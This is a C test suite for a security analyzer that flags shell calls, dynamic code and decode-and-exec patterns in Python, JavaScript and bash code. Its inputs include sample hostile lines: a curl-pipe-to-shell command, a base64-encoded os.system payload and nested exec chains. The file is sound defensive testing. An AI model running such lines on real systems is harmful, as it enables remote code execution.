/*
 * The analyzer's rules against their cases (tests/check/<lang>/<rule>.<ext>):
 * every rule of every language has a file with positive sections (each must
 * produce the rule) and negative ones (none may), and the analyzer itself
 * is checked for what no single rule covers: places, order, bad rule files,
 * hostile input, threads.
 */
#include <criterion/criterion.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/util.h"
#include "policy/analyze.h"
#include "policy/analyze_internal.h"

static struct analyzer *A;

static void setup(void)
{
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &A, &err), 0, "%s", err.msg);
}

static void teardown(void)
{
	analyzer_free(A);
}

TestSuite(check_rules, .init = setup, .fini = teardown);
TestSuite(analyzer);

static const struct {
	const char *lang, *ext, *marker;
} langs[] = {
    {"python", "py", "#@ "},
    {"javascript", "js", "//@ "},
    {"bash", "sh", "#@ "},
};

static bool has_rule(const struct findings *f, const char *rule)
{
	for (size_t i = 0; i < f->n; i++)
		if (strcmp(f->v[i].rule, rule) == 0)
			return true;
	return false;
}

static void dump(const struct findings *f)
{
	for (size_t i = 0; i < f->n; i++)
		cr_log_info("  %u:%u %s %s", f->v[i].line, f->v[i].column, f->v[i].rule,
			    f->v[i].text);
}

/* Runs each section of one case file; returns how many pos and neg
 * sections it had, and counts failures. */
static void run_case_file(const char *lang, const char *marker, const char *rule, const char *path,
			  int *npos, int *nneg, int *failures)
{
	char *text = NULL;
	size_t len;
	err_t err;
	size_t mlen = strlen(marker);

	*npos = *nneg = 0;
	if (read_file_max(path, 1 << 20, &text, &len, &err) < 0) {
		cr_log_error("%s: rule %s has no case file (%s)", lang, rule, err.msg);
		(*failures)++;
		return;
	}
	char *p = text;
	while (p && *p) {
		if (strncmp(p, marker, mlen) != 0) {
			p = strchr(p, '\n');
			p = p ? p + 1 : NULL;
			continue;
		}
		bool pos = strncmp(p + mlen, "pos", 3) == 0;
		bool neg = strncmp(p + mlen, "neg", 3) == 0;
		char *title = p + mlen;
		char *body = strchr(p, '\n');
		if (!body)
			break;
		*body++ = '\0';
		char *end = body;
		while (*end) {
			if (strncmp(end, marker, mlen) == 0 &&
			    (strncmp(end + mlen, "pos", 3) == 0 ||
			     strncmp(end + mlen, "neg", 3) == 0))
				break;
			char *nl = strchr(end, '\n');
			end = nl ? nl + 1 : end + strlen(end);
		}
		struct findings f;
		cr_assert(pos || neg, "%s: a section must be pos or neg: %s", path, title);
		cr_assert_eq(analyze(A, lang, body, (size_t)(end - body), &f, &err), 0, "%s",
			     err.msg);
		bool hit = has_rule(&f, rule);
		if (pos)
			(*npos)++;
		else
			(*nneg)++;
		if (hit != pos) {
			cr_log_error("%s: [%s] %s the rule %s", path, title,
				     pos ? "does not produce" : "wrongly produces", rule);
			dump(&f);
			(*failures)++;
		}
		findings_free(&f);
		p = end;
	}
	free(text);
}

Test(check_rules, every_rule_has_cases_that_hold)
{
	int failures = 0, files = 0;

	for (size_t l = 0; l < ARRAY_SIZE(langs); l++) {
		const char *ids[256];
		err_t err;
		size_t n = analyzer_rule_ids(A, langs[l].lang, ids, ARRAY_SIZE(ids), &err);
		if (n == 0) {
			cr_log_error("%s has no rules (%s)", langs[l].lang, err.msg);
			failures++;
		}
		ids[n++] = "syntax-error";
		for (size_t i = 0; i < n; i++) {
			char path[512];
			int npos, nneg;
			snprintf(path, sizeof(path), "tests/check/%s/%s.%s", langs[l].lang, ids[i],
				 langs[l].ext);
			run_case_file(langs[l].lang, langs[l].marker, ids[i], path, &npos, &nneg,
				      &failures);
			if (npos == 0 || nneg == 0) {
				cr_log_error("%s: needs at least one pos and one neg section",
					     path);
				failures++;
			}
			files++;
		}
	}
	cr_expect_eq(failures, 0, "%d rule case(s) failed over %d files (see above)", failures,
		     files);
}

/* A case file whose rule does not exist (renamed or removed) is stale. */
Test(check_rules, no_case_file_without_its_rule)
{
	for (size_t l = 0; l < ARRAY_SIZE(langs); l++) {
		const char *ids[256];
		char cmd[256];
		err_t err;
		size_t n = analyzer_rule_ids(A, langs[l].lang, ids, ARRAY_SIZE(ids), &err);
		snprintf(cmd, sizeof(cmd), "ls tests/check/%s", langs[l].lang);
		FILE *p = popen(cmd, "r");
		char line[256];
		cr_assert_not_null(p);
		while (fgets(line, sizeof(line), p)) {
			char *dot = strrchr(line, '.');
			bool known = false;
			if (dot)
				*dot = '\0';
			known = strcmp(line, "syntax-error") == 0;
			for (size_t i = 0; i < n && !known; i++)
				known = strcmp(ids[i], line) == 0;
			cr_expect(known, "tests/check/%s/%s has no rule of that id", langs[l].lang,
				  line);
		}
		pclose(p);
	}
}

static struct findings check(const char *lang, const char *code)
{
	struct findings f;
	err_t err;
	cr_assert_eq(analyze(A, lang, code, strlen(code), &f, &err), 0, "%s", err.msg);
	return f;
}

Test(check_rules, place_and_text)
{
	struct findings f = check("python", "x = 1\n\xc3\xa9 = 2; import os; os.system('id')\n");
	size_t i;
	for (i = 0; i < f.n && strcmp(f.v[i].rule, "py-shell") != 0; i++)
		;
	cr_assert_lt(i, f.n);
	cr_expect_eq(f.v[i].line, 2);
	cr_expect_eq(f.v[i].column, 19, "columns count characters: got %u", f.v[i].column);
	cr_expect_str_eq(f.v[i].text, "os.system('id')");
	cr_expect_eq(f.v[i].severity, SEV_HIGH);
	findings_free(&f);
}

Test(check_rules, sorted_and_one_per_place)
{
	struct findings f =
	    check("python", "import os\nos.system('a')\nexec('b')\nos.system('c')\n");
	for (size_t i = 1; i < f.n; i++) {
		cr_expect(f.v[i - 1].line < f.v[i].line || (f.v[i - 1].line == f.v[i].line &&
							    f.v[i - 1].column <= f.v[i].column),
			  "findings out of order");
		cr_expect(!(f.v[i - 1].line == f.v[i].line && f.v[i - 1].column == f.v[i].column &&
			    strcmp(f.v[i - 1].rule, f.v[i].rule) == 0),
			  "one rule reported twice at one place");
	}
	cr_expect_eq(f.n, 3);
	findings_free(&f);
}

/* Code the program runs from a constant is analysed, and what is found in
 * it is reported where it is run. */
Test(check_rules, nested_code_is_analysed)
{
	struct findings f =
	    check("python", "import base64\n"
			    "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n");
	cr_expect(has_rule(&f, "py-shell"), "the decoded payload's os.system is not seen");
	cr_expect(has_rule(&f, "py-decode-exec"));
	for (size_t i = 0; i < f.n; i++)
		cr_expect_eq(f.v[i].line, 2);
	findings_free(&f);
	/* exec inside exec inside exec: bounded, and still seen */
	f = check("python",
		  "exec(\"exec('exec(\\\"__import__(\\\\\\'os\\\\\\').system(1)\\\")')\")");
	cr_expect(has_rule(&f, "py-dynamic-code"));
	findings_free(&f);
}

Test(check_rules, shell_strings_are_analysed_as_bash)
{
	struct findings f = check("python", "import os\nos.system('curl -s http://x | sh')\n");
	cr_expect(has_rule(&f, "py-shell"));
	cr_expect(has_rule(&f, "sh-download-exec"),
		  "the shell command given to os.system is not analysed as bash");
	findings_free(&f);
}

Test(check_rules, hostile_input_is_a_finding_not_a_crash)
{
	static const char *const inputs[] = {
	    "",
	    "\0\0\0",
	    "\xff\xfe\xfd",
	    "((((((((((((((((((((((((((((((",
	    "'''",
	    "\"\"\"\\",
	    "def f(:\n\tos.system(\n",
	    "\xc3",
	    "\r\r\r\n\n",
	};
	for (size_t l = 0; l < ARRAY_SIZE(langs); l++)
		for (size_t i = 0; i < ARRAY_SIZE(inputs); i++) {
			struct findings f;
			err_t err;
			size_t len = i == 1 ? 3 : strlen(inputs[i]);
			cr_assert_eq(analyze(A, langs[l].lang, inputs[i], len, &f, &err), 0, "%s",
				     err.msg);
			for (size_t k = 0; k < f.n; k++)
				cr_expect_not_null(f.v[k].text);
			findings_free(&f);
		}
	/* deep nesting: no stack overflow in the walkers */
	struct buf b = {0};
	for (int i = 0; i < 20000; i++)
		buf_append(&b, "(", 1);
	buf_append(&b, "os.system('x')", 14);
	for (int i = 0; i < 20000; i++)
		buf_append(&b, ")", 1);
	struct findings f;
	err_t err;
	cr_assert_eq(analyze(A, "python", b.data, b.len, &f, &err), 0, "%s", err.msg);
	cr_expect(has_rule(&f, "analysis-incomplete"), "20000 levels of nesting passed unreported");
	cr_expect(findings_reach(&f, SEV_HIGH));
	findings_free(&f);
	buf_free(&b);
	/* global and nonlocal outside any function (found by fuzz_analyze:
	 * the walk took the enclosing function's bounds from a null node, and
	 * a two-line program crashed the analysis, and with it a server) */
	static const char *const module_level[] = {"global x\nx = 1\n", "nonlocal x\nx = 1\n",
						    "global os, sys\nimport os\nos.system('id')\n"};
	for (size_t i = 0; i < ARRAY_SIZE(module_level); i++) {
		cr_assert_eq(analyze(A, "python", module_level[i], strlen(module_level[i]), &f,
				     &err),
			     0, "%s", err.msg);
		findings_free(&f);
	}
	/* names holding NUL bytes compare as bytes, not as C strings */
	static const char nul[] = "import os\nc\0x = os\nc = 1\nc\0x.system('id')\n";
	cr_assert_eq(analyze(A, "python", nul, sizeof(nul) - 1, &f, &err), 0, "%s", err.msg);
	findings_free(&f);
}

/* A name bound to itself over and over (c = c), then changed in place:
 * the marking of what it changes reaches each name once. It walked every
 * path to depth 8, fan-out 8: a 126-byte program (found by fuzz_analyze)
 * kept airlock check busy for minutes. The timeout is 10,000 times the
 * time it takes now. */
Test(check_rules, a_name_bound_to_itself_is_followed_once, .timeout = 30)
{
	struct buf b = {0};
	buf_append(&b, "import os\nc = 'ls'\n", 19);
	for (int i = 0; i < 12; i++)
		buf_append(&b, "c = c\n", 6);
	buf_append(&b, "c += ' /'\nos.system(c)\n", 24);
	struct findings f;
	err_t err;
	cr_assert_eq(analyze(A, "python", b.data, b.len, &f, &err), 0, "%s", err.msg);
	cr_expect(findings_reach(&f, SEV_HIGH), "os.system of a changed command is still seen");
	findings_free(&f);
	buf_free(&b);
}

/* Each replacement may multiply a string's length: two in a row of
 * 3,000-character literals asked for 27 GB, and the analysis (in `airlock
 * serve` too) died out of memory after a minute. Folding gives up past
 * FOLD_MAX instead; the command it could not fold is still a shell's. */
Test(check_rules, a_replacement_that_multiplies_a_string_is_bounded, .timeout = 60)
{
#if !defined(__SANITIZE_ADDRESS__)
	struct rlimit lim = {1ul << 30, 1ul << 30}; /* the old fold wanted 16 GB */
	cr_assert_eq(setrlimit(RLIMIT_AS, &lim), 0);
#endif
	static const struct {
		const char *lang, *head, *mid, *tail;
	} progs[] = {
	    {"python", "import os\ns = '", "'\nw = '",
	     "'\nt = s.replace('a', w)\nu = t.replace('b', w)\nos.system(u)\n"},
	    {"javascript", "const cp = require('child_process');\nconst s = '", "';\nconst w = '",
	     "';\nconst t = s.replaceAll('a', w);\nconst u = t.replaceAll('b', w);\ncp.execSync(u);\n"},
	    {"bash", "v=", "\nw=", "\nt=${v//a/$w}\nu=${t//b/$w}\neval \"$u\"\n"},
	};
	for (size_t l = 0; l < ARRAY_SIZE(progs); l++) {
		struct buf b = {0};
		buf_append(&b, progs[l].head, strlen(progs[l].head));
		for (int i = 0; i < 3000; i++)
			buf_append(&b, "a", 1);
		buf_append(&b, progs[l].mid, strlen(progs[l].mid));
		for (int i = 0; i < 3000; i++)
			buf_append(&b, "b", 1);
		buf_append(&b, progs[l].tail, strlen(progs[l].tail));
		struct findings f;
		err_t err;
		cr_assert_eq(analyze(A, progs[l].lang, b.data, b.len, &f, &err), 0, "%s", err.msg);
		cr_expect(findings_reach(&f, SEV_HIGH), "%s: the command is still run", progs[l].lang);
		findings_free(&f);
		buf_free(&b);
	}
}

Test(check_rules, syntax_error_says_where)
{
	struct findings f = check("python", "print(1)\nprint(2)\ndef f(:\n    pass\n");
	cr_assert(has_rule(&f, "syntax-error"));
	for (size_t i = 0; i < f.n; i++)
		if (strcmp(f.v[i].rule, "syntax-error") == 0) {
			cr_expect_eq(f.v[i].line, 3);
			cr_expect_eq(f.v[i].severity, SEV_HIGH);
		}
	findings_free(&f);
}

Test(check_rules, json_shape)
{
	struct findings f = check("python", "eval(\"1 + 1\")");
	json_t *j = findings_to_json(&f);
	cr_assert_eq(json_array_size(j), 1);
	json_t *o = json_array_get(j, 0);
	cr_expect_str_eq(json_string_value(json_object_get(o, "rule")), "py-dynamic-code");
	cr_expect_str_eq(json_string_value(json_object_get(o, "severity")), "warn");
	cr_expect_eq(json_integer_value(json_object_get(o, "line")), 1);
	cr_expect_eq(json_integer_value(json_object_get(o, "column")), 1);
	cr_expect_not_null(json_string_value(json_object_get(o, "message")));
	cr_expect_str_eq(json_string_value(json_object_get(o, "text")), "eval(\"1 + 1\")");
	cr_expect(findings_reach(&f, SEV_WARN));
	cr_expect(!findings_reach(&f, SEV_HIGH));
	json_decref(j);
	findings_free(&f);
}

Test(analyzer, language_names)
{
	cr_expect_str_eq(analyzer_language("node"), "javascript");
	cr_expect_str_eq(analyzer_language("py"), "python");
	cr_expect_str_eq(analyzer_language("sh"), "bash");
	cr_expect_null(analyzer_language("c"));
	cr_expect_null(analyzer_language(NULL));
	enum severity s;
	enum policy_mode m;
	cr_expect_eq(severity_parse("warn", &s), 0);
	cr_expect_eq(s, SEV_WARN);
	cr_expect_eq(severity_parse("HIGH", &s), -1);
	cr_expect_eq(policy_mode_parse("approve", &m), 0);
	cr_expect_eq(m, POLICY_APPROVE);
	cr_expect_eq(policy_mode_parse("", &m), -1);
}

/* o['a'] is read as o.a: what follows on the line keeps its column */
Test(analyzer, a_member_read_by_its_name_keeps_the_columns_after_it, .init = setup,
     .fini = teardown)
{
	const char *code = "const o = {a: 1}; o['a']; require('child_process').exec('id');\n";
	struct findings f = {0};
	err_t err;
	bool seen = false;

	cr_assert_eq(analyze(A, "javascript", code, strlen(code), &f, &err), 0, "%s", err.msg);
	for (size_t i = 0; i < f.n; i++)
		if (strcmp(f.v[i].rule, "js-shell") == 0) {
			seen = true;
			cr_expect_eq(f.v[i].line, 1);
			cr_expect_eq(f.v[i].column, 27, "js-shell at column %u, require is at 27",
				     f.v[i].column);
		}
	cr_expect(seen, "no js-shell finding");
	findings_free(&f);
}

Test(analyzer, unknown_language_is_an_error)
{
	struct analyzer *a;
	struct findings f;
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &a, &err), 0, "%s", err.msg);
	cr_expect_eq(analyze(a, "c", "int main;", 9, &f, &err), -1);
	cr_expect(strstr(err.msg, "no analysis for language 'c'"), "%s", err.msg);
	analyzer_free(a);
}

static char *make_rules(const char *file, const char *text)
{
	char *dir = xstrdup("/tmp/airlock-rules.XXXXXX");
	char path[256];
	cr_assert_not_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/python", dir);
	cr_assert_eq(mkdir(path, 0755), 0);
	snprintf(path, sizeof(path), "%s/python/%s", dir, file);
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
	return dir;
}

static void remove_rules(char *dir)
{
	char cmd[300];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	cr_expect_eq(system(cmd), 0);
	free(dir);
}

/* Rules are data: a user's file adds a rule without recompiling. */
Test(analyzer, user_rules_are_loaded)
{
	char *dir = make_rules("mine.scm", "((call function: (_) @fn) @finding\n"
					   " (#resolves-to? @fn \"json\\\\.loads\")\n"
					   " (#set! id \"my-json\")\n"
					   " (#set! severity \"info\")\n"
					   " (#set! message \"parses JSON\"))\n");
	struct analyzer *a;
	struct findings f;
	err_t err;
	cr_assert_eq(analyzer_new(dir, &a, &err), 0, "%s", err.msg);
	const char *code = "import json as j\nj.loads('{}')\n";
	cr_assert_eq(analyze(a, "python", code, strlen(code), &f, &err), 0, "%s", err.msg);
	cr_expect(has_rule(&f, "my-json"));
	cr_expect_eq(f.v[0].severity, SEV_INFO);
	findings_free(&f);
	/* and the built-in rules are still there */
	code = "import os\nos.system('x')";
	cr_assert_eq(analyze(a, "python", code, strlen(code), &f, &err), 0, "%s", err.msg);
	cr_expect(has_rule(&f, "py-shell"));
	findings_free(&f);
	analyzer_free(a);
	remove_rules(dir);
}

/* The rules of ids (in order) found in f, one per finding, as "id:line". */
static void found(const struct findings *f, char *out, size_t size)
{
	size_t n = 0;
	out[0] = '\0';
	for (size_t i = 0; i < f->n && n < size; i++)
		n += (size_t)snprintf(out + n, size - n, "%s:%u ", f->v[i].rule, f->v[i].line);
}

/* An analyzer with the rules of DIR (and the built-in ones), and the
 * rules found in CODE, a Python program, as found() lists them. */
static struct analyzer *analyze_with_rules(const char *dir, const char *code, char *got,
					   size_t size)
{
	struct analyzer *a;
	struct findings f;
	err_t err;

	cr_assert_eq(analyzer_new(dir, &a, &err), 0, "%s", err.msg);
	cr_assert_eq(analyze(a, "python", code, strlen(code), &f, &err), 0, "%s", err.msg);
	found(&f, got, size);
	findings_free(&f);
	return a;
}

/* #type? (and #not-type?): `(_) @c (#type? @c "T"...)` finds what the
 * alternation `[(T) ...] @c` finds, also when a comment or a node of
 * another type comes first. */
Test(analyzer, type_predicate_is_the_alternation)
{
	char *dir =
	    make_rules("types.scm",
		       "((call arguments: (argument_list . [(string) (identifier)] @a)) @finding\n"
		       " (#set! id \"alt\") (#set! message \"m\"))\n"
		       "((call arguments: (argument_list . (_) @a)) @finding\n"
		       " (#type? @a \"string\" \"identifier\")\n"
		       " (#set! id \"typ\") (#set! message \"m\"))\n"
		       "((call arguments: (argument_list . (_) @a)) @finding\n"
		       " (#not-type? @a \"string\" \"identifier\")\n"
		       " (#set! id \"not\") (#set! message \"m\"))\n");
	char got[512];
	struct analyzer *a = analyze_with_rules(dir,
						"f('s')\n"
						"f(x, 1)\n"
						"f(1, x)\n"
						"f(# c\n  x)\n"
						"f()\n"
						"f(x.y)\n",
						got, sizeof(got));
	/* (a comment first is the first named child, for both) */
	cr_expect_str_eq(got, "alt:1 typ:1 alt:2 typ:2 not:3 not:4 not:7 ", "%s", got);
	analyzer_free(a);
	remove_rules(dir);
}

/* #resolves-to? of words joined by "|" (compared, not run as a regular
 * expression) matches a whole name and nothing else; rules of the same
 * shape, matched once by the query, each keep their own predicates. */
Test(analyzer, word_lists_match_whole_names)
{
	char *dir = make_rules("words.scm",
			       "((call function: (_) @fn) @finding\n"
			       " (#resolves-to? @fn \"os\\\\.getcwd|os\\\\.getpid\")\n"
			       " (#set! id \"w\") (#set! message \"m\"))\n"
			       "((call function: (_) @fn) @finding\n"
			       " (#resolves-to? @fn \"os\\\\.get|os\\\\.getcw.\\\\.x\")\n"
			       " (#set! id \"r\") (#set! message \"m\"))\n"
			       "((call function: (_) @fn) @finding\n"
			       " (#not-resolves-to? @fn \"os\\\\.(getcwd|getpid|getuid)\")\n"
			       " (#set! id \"n\") (#set! message \"m\"))\n");
	char got[512];
	err_t err;
	struct analyzer *a = analyze_with_rules(dir,
						"import os\n"
						"os.getcwd()\n"
						"os.getpid()\n"
						"os.getcwdb()\n"
						"os.xgetcwd()\n"
						"os.get()\n"
						"os.getuid()\n"
						"os.getcwd.x()\n",
						got, sizeof(got));
	cr_expect_str_eq(got, "w:2 w:3 n:4 n:5 n:6 r:6 n:8 r:8 ", "%s", got);

	struct lang_rules *lr = analyzer_rules_for(a, "python");
	int words = 0, regexes = 0;
	cr_assert_eq(analyzer_compile_lang(lr, &err), 0, "%s", err.msg);
	for (uint32_t p = 0; p < lr->npat; p++)
		for (uint32_t i = 0; i < lr->pat[p].npreds; i++) {
			const struct pred *pr = &lr->pat[p].preds[i];
			if (!pr->regex || !pr->strs[0])
				continue;
			if (strcmp(pr->strs[0], "os\\.getcwd|os\\.getpid") == 0)
				words += pr->words != NULL &&
					 strcmp(pr->words, "os.getcwd|os.getpid") == 0;
			else if (strcmp(pr->strs[0], "os\\.get|os\\.getcw.\\.x") == 0 ||
				 strcmp(pr->strs[0], "os\\.(getcwd|getpid|getuid)") == 0)
				regexes += pr->words == NULL;
		}
	cr_expect_eq(words, 1, "the word list is compared");
	cr_expect_eq(regexes, 2, "a group or a bare dot is a regular expression");
	/* one chain holds the three: the query matches their shape once */
	uint32_t chained = 0;
	for (uint32_t p = 0; p < lr->npat; p++)
		if (strcmp(lr->pat[p].id, "w") == 0)
			for (uint32_t q = p; q != UINT32_MAX; q = lr->pat[q].same_next)
				chained += strcmp(lr->pat[q].id, "w") == 0 ||
					   strcmp(lr->pat[q].id, "r") == 0 ||
					   strcmp(lr->pat[q].id, "n") == 0;
	cr_expect_eq(chained, 3, "the three rules of one shape are matched once");
	analyzer_free(a);
	remove_rules(dir);
}

static char *make_severities(const char *text)
{
	char *dir = xstrdup("/tmp/airlock-rules.XXXXXX");
	char path[256];
	cr_assert_not_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/severity.conf", dir);
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
	return dir;
}

/* severity.conf in a rules directory sets a rule's severity: code read at
 * run time may be expected somewhere, and lowered there. */
Test(analyzer, severity_conf_sets_a_rules_severity)
{
	char *dir = make_severities("# expected here\n"
						"py-unknown-code warn\n\n"
						"py-shell info # and this\n");
	struct analyzer *a;
	struct findings f;
	err_t err;
	cr_assert_eq(analyzer_new(dir, &a, &err), 0, "%s", err.msg);
	const char *code = "eval(input())\nimport os\nos.system('id')\n";
	cr_assert_eq(analyze(a, "python", code, strlen(code), &f, &err), 0, "%s", err.msg);
	cr_expect(has_rule(&f, "py-unknown-code"));
	cr_expect(!findings_reach(&f, SEV_HIGH), "severity.conf did not lower the rules");
	for (size_t i = 0; i < f.n; i++)
		if (strcmp(f.v[i].rule, "py-shell") == 0)
			cr_expect_eq(f.v[i].severity, SEV_INFO);
	findings_free(&f);
	analyzer_free(a);
	remove_rules(dir);
	/* the default is high */
	cr_assert_eq(analyzer_new(NULL, &a, &err), 0, "%s", err.msg);
	cr_assert_eq(analyze(a, "python", code, strlen(code), &f, &err), 0, "%s", err.msg);
	cr_expect(findings_reach(&f, SEV_HIGH));
	findings_free(&f);
	analyzer_free(a);
	/* a typo or a bad level is an error naming the file */
	static const char *const bad[] = {"py-unknwn-code warn\n", "py-unknown-code low\n",
					  "py-unknown-code\n"};
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		dir = make_severities(bad[i]);
		cr_expect_eq(analyzer_new(dir, &a, &err), -1, "'%s' accepted", bad[i]);
		cr_expect(strstr(err.msg, "severity.conf"), "%s", err.msg);
		remove_rules(dir);
	}
}

Test(analyzer, bad_rule_files_name_file_and_line)
{
	static const struct {
		const char *text, *expect;
	} bad[] = {
	    {"; ok\n\n((call) @x (#set! id \"a\") ]\n", "mine.scm:3"},
	    {"((no_such_node) @x (#set! id \"a\") (#set! message \"m\"))", "unknown node type"},
	    {"((call) @x (#set! id \"a\"))", "needs"},
	    {"((call) @x (#set! id \"a\") (#set! message \"m\") (#set! severity \"bad\"))",
	     "severity 'bad'"},
	    {"((call) @x (#frobnicate? @x \"y\") (#set! id \"a\") (#set! message \"m\"))",
	     "unknown predicate #frobnicate?"},
	    {"((call) @x (#match? @x \"(\") (#set! id \"a\") (#set! message \"m\"))",
	     "bad regular expression"},
	    {"((call) @x (#set! id \"a\") (#set! message \"m\") (#set! analyze \"nope\"))",
	     "no capture @nope"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		char *dir = make_rules("mine.scm", bad[i].text);
		struct analyzer *a = NULL;
		err_t err;
		cr_expect_eq(analyzer_new(dir, &a, &err), -1, "case %zu accepted", i);
		cr_expect(strstr(err.msg, bad[i].expect), "case %zu: '%s' lacks '%s'", i, err.msg,
			  bad[i].expect);
		cr_expect(strstr(err.msg, "mine.scm"), "case %zu does not name the file: %s", i,
			  err.msg);
		remove_rules(dir);
	}
	struct analyzer *a;
	err_t err;
	cr_expect_eq(analyzer_new("/nonexistent/rules", &a, &err), -1);
	cr_expect(strstr(err.msg, "no rule files"), "%s", err.msg);
}

static void *analyze_many(void *arg)
{
	struct analyzer *a = arg;
	const char *code = "import subprocess as s\nfrom os import *\ns.run(['x'])\nsystem('y')\n";
	for (int i = 0; i < 200; i++) {
		struct findings f;
		err_t err;
		if (analyze(a, "python", code, strlen(code), &f, &err) < 0 || f.n != 3) {
			findings_free(&f);
			return (void *)1;
		}
		findings_free(&f);
	}
	return NULL;
}

/* One analyzer, many threads (the service): same answers, no races (the
 * first use of a language compiles its query under a lock). */
Test(analyzer, threads_share_one_analyzer)
{
	struct analyzer *a;
	pthread_t t[4];
	err_t err;
	cr_assert_eq(analyzer_new(NULL, &a, &err), 0, "%s", err.msg);
	for (int i = 0; i < 4; i++)
		pthread_create(&t[i], NULL, analyze_many, a);
	for (int i = 0; i < 4; i++) {
		void *r;
		pthread_join(t[i], &r);
		cr_expect_null(r, "thread %d saw a different answer", i);
	}
	analyzer_free(a);
}

/* Names bound in a lattice (each to two others, forty deep) would take
 * 2^40 steps to resolve naively: analysis stays fast, and what it could
 * not finish is reported rather than passed. */
Test(check_rules, tangled_names_are_bounded_and_reported)
{
	struct buf b = {0};
	char line[128];
	buf_append(&b, "import os\nv0 = os\nv1 = os\n", 27);
	for (int i = 2; i < 40; i++) {
		int n = snprintf(line, sizeof(line), "v%d = v%d if v%d else v%d\nv%d = v%d\n", i,
				 i - 1, i - 2, i - 2, i, i - 1);
		buf_append(&b, line, (size_t)n);
	}
	buf_append(&b, "v39.system('id')\n", 17);
	uint64_t t0 = monotonic_ms();
	struct findings f;
	err_t err;
	cr_assert_eq(analyze(A, "python", b.data, b.len, &f, &err), 0, "%s", err.msg);
	cr_expect_lt(monotonic_ms() - t0, 5000, "analysis took %llu ms",
		     (unsigned long long)(monotonic_ms() - t0));
	cr_expect(has_rule(&f, "py-shell") || has_rule(&f, "analysis-incomplete"));
	cr_expect(findings_reach(&f, SEV_HIGH));
	findings_free(&f);
	buf_free(&b);
}
